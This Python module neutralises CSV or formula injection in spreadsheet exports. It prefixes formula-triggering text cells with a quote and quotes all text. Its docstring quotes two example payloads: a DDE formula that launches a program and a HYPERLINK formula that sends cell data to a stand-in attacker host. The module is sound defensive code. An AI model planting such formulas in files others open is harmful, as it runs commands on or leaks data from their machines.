"""CSV that people open in a spreadsheet: text cells that cannot run as formulas (CSV or formula injection).

A spreadsheet (Excel, LibreOffice Calc, Google Sheets, Numbers) runs a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula, and some read a leading tab, carriage return or line feed the same way, so a campaign
named ``=cmd|' /C calc'!A0`` or ``=HYPERLINK("https://evil.example?"&A1)`` would run on the machine of whoever
opens the export. As OWASP recommends, such a text cell is written with a single quote in front (``'=cmd|…``),
which spreadsheets take as "this is text" and do not show, and every text cell is quoted; a NUL in front is
neutralised too (OWASP ASVS 5.0, 1.2.10).

Only text cells are touched: numbers, booleans and times are written as such (``-3.5`` in a number column stays
``-3.5``), since a spreadsheet reads them as values, never as formulas. A text cell is neutralised whatever it
holds, even when it looks like a number (a campaign called ``-3.5`` is written ``'-3.5``): text is text, and a
rule that tries to tell "harmless" text from formulas is the kind of rule attackers get around.

Every CSV that xmo writes for people goes through this module (``CsvWriter`` for Arrow tables, ``safe_text``
for one cell). Parquet keeps the values exactly as stored: it is read by programs, not spreadsheets.
"""

from __future__ import annotations

from typing import Any

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pa_csv

FORMULA_TRIGGERS = "=+-@\t\r\n\x00"
"""The first characters that make a spreadsheet read a cell as a formula (OWASP, plus LF and NUL)."""
TEXT_MARK = "'"
_TRIGGER_PATTERN = "^[" + "".join(f"\\x{ord(ch):02x}" for ch in FORMULA_TRIGGERS) + "]"


def safe_text(text: str) -> str:
    """``text`` with a single quote in front when it starts with a formula trigger; otherwise unchanged."""
    return TEXT_MARK + text if text[:1] and text[0] in FORMULA_TRIGGERS else text


def _is_text(kind: pa.DataType) -> bool:
    return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind) or pa.types.is_string_view(kind))


def safe_column(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A text column with every formula-like cell neutralised (``safe_text``); any other column unchanged."""
    if pa.types.is_dictionary(values.type) and _is_text(values.type.value_type):
        values = values.cast(values.type.value_type)
    if not _is_text(values.type):
        return values
    risky = pc.match_substring_regex(values, _TRIGGER_PATTERN)
    if not pc.any(risky).as_py():
        return values
    marked = pc.binary_join_element_wise(pa.scalar(TEXT_MARK, values.type), values, pa.scalar("", values.type))
    return pc.if_else(risky, marked, values)


def safe_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """``batch`` with its text columns passed through ``safe_column`` (types and names kept)."""
    columns = [safe_column(column) for column in batch.columns]
    return pa.RecordBatch.from_arrays(columns, schema=_text_schema(batch.schema))


def _text_schema(schema: pa.Schema) -> pa.Schema:
    """``schema`` with dictionary-encoded text columns as plain text (what ``safe_column`` returns)."""
    fields = [
        field.with_type(field.type.value_type)
        if pa.types.is_dictionary(field.type) and _is_text(field.type.value_type)
        else field
        for field in schema
    ]
    return pa.schema(fields, metadata=schema.metadata)


class CsvWriter:
    """Arrow's CSV writer for files people open: a header, text cells quoted and neutralised, numbers as numbers."""

    def __init__(self, sink: Any, schema: pa.Schema) -> None:
        # "needed" quotes every text cell (Arrow quotes all strings in this style) and never a number
        options = pa_csv.WriteOptions(quoting_style="needed")
        self._writer = pa_csv.CSVWriter(sink, _text_schema(schema), write_options=options)

    def write_batch(self, batch: pa.RecordBatch) -> None:
        """Write ``batch`` with its text cells made safe."""
        self._writer.write_batch(safe_batch(batch))

    def close(self) -> None:
        """Finish the file."""
        self._writer.close()
